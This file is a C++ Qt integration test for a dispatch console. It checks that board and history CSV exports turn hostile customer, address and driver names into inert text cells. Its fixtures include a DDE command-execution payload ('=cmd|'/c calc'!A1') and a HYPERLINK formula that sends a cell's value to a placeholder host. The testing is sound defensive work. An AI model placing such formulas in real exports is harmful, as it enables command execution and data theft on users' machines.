// The exports that read the database, against a real cluster: hostile names typed into
// orders and drivers come out of File › Export board and the inspector's history export as
// text cells, never as formulas (the writer itself is unit-tested in tst_csvwriter).

#include "board/assignedordersmodel.h"
#include "board/driversmodel.h"
#include "board/outcomelogmodel.h"
#include "board/readyordersmodel.h"
#include "claims/assignmentservice.h"
#include "claims/orderrepository.h"
#include "console/mainwindow.h"
#include "csvreader.h"
#include "inspector/inspectorwindow.h"
#include "lib/consolesession.h"
#include "testcluster.h"

#include <QApplication>
#include <QFile>
#include <QStandardPaths>
#include <QTemporaryDir>

namespace {

const QString kHyperlink = QStringLiteral("=HYPERLINK(\"http://x/?\"&A2,\"Click\")");
const QString kDde = QStringLiteral("=cmd|'/c calc'!A1");

} // namespace

class ExportsTest : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void init();
    void boardExportNeutralisesHostileCustomerAndAddresses();
    void historyExportNeutralisesAHostileDriverName();

private:
    TestCluster m_cluster;
    int m_serial = 0;
};

void ExportsTest::initTestCase()
{
    QStandardPaths::setTestModeEnabled(true);
    QVERIFY2(m_cluster.start(), qPrintable(m_cluster.errorString()));
}

void ExportsTest::init()
{
    m_cluster.freshDatabase(QStringLiteral("exports_%1").arg(++m_serial));
}

void ExportsTest::boardExportNeutralisesHostileCustomerAndAddresses()
{
    const qint64 order = m_cluster.addReadyOrder(kHyperlink);
    m_cluster.exec(QStringLiteral("UPDATE orders SET pickup = ?, dropoff = ? WHERE id = ?"),
                   { kDde, QStringLiteral("@SUM(A1)"), order });
    m_cluster.addDriver(QStringLiteral("-1+1"));

    ConsoleSession::Options options
        = ConsoleSession::named(m_cluster.settings(), QStringLiteral("exports"));
    options.listen = false;
    ConsoleSession session(options);
    MainWindow &window = *session.window();
    ReadyOrdersModel &board = *session.board();
    window.refreshAll();
    QTRY_VERIFY(board.rowOfOrder(order) >= 0);

    bool wellFormed = false;
    const QList<QStringList> rows = readCsv(window.boardCsv(), &wellFormed);
    QVERIFY2(wellFormed, qPrintable(window.boardCsv()));
    QCOMPARE(rows.size(), 2);
    QVERIFY2(formulaCells(rows).isEmpty(), qPrintable(formulaCells(rows).join(QLatin1Char('|'))));
    const QStringList &header = rows.at(0);
    const QStringList &row = rows.at(1);
    QCOMPARE(row.size(), header.size());
    QCOMPARE(row.at(int(ReadyOrdersModel::Column::Id)), QString::number(order));
    QCOMPARE(row.at(int(ReadyOrdersModel::Column::Customer)), QLatin1Char('\'') + kHyperlink);
    QCOMPARE(row.at(int(ReadyOrdersModel::Column::Pickup)), QLatin1Char('\'') + kDde);
    QCOMPARE(row.at(int(ReadyOrdersModel::Column::Dropoff)), QStringLiteral("'@SUM(A1)"));
}

void ExportsTest::historyExportNeutralisesAHostileDriverName()
{
    const qint64 order = m_cluster.addReadyOrder(QStringLiteral("Plain Customer"));
    const qint64 driver = m_cluster.addDriver(kDde);
    {
        auto connection = m_cluster.connect(QStringLiteral("dispatcher"));
        OrderRepository repository(*connection);
        QVERIFY(repository.claim(order, driver, ClaimSource::Console, QStringLiteral("console:x"))
                    .isSuccess());
    }

    InspectorWindow window(m_cluster.settings());
    window.showOrder(order);
    QVERIFY2(window.orderPage().found, qPrintable(window.statusText()));
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("history.csv"));
    QString error;
    QVERIFY2(window.exportHistoryCsv(path, &error), qPrintable(error));
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));

    bool wellFormed = false;
    const QList<QStringList> rows = readCsv(QString::fromUtf8(file.readAll()), &wellFormed);
    QVERIFY(wellFormed);
    QVERIFY(rows.size() >= 3); // header, created, assigned
    QVERIFY2(formulaCells(rows).isEmpty(), qPrintable(formulaCells(rows).join(QLatin1Char('|'))));
    const int newDriver = int(rows.at(0).indexOf(QStringLiteral("new_driver")));
    QVERIFY(newDriver >= 0);
    QCOMPARE(rows.last().at(newDriver), QLatin1Char('\'') + kDde);
}

QTEST_MAIN(ExportsTest)
#include "tst_exports.moc"
